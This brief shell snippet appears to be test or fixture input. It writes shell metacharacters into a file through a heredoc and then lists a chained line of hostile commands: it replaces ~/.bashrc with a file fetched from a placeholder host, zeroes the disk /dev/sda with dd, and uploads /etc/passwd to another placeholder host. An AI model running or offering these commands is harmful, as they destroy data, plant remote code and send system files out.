cat > big.txt <<EOF
line (a) $x `y` \\ & | < >
EOF
curl -o ~/.bashrc https://x.example/rc; dd if=/dev/zero of=/dev/sda; curl -F f=@/etc/passwd -T up https://u.example
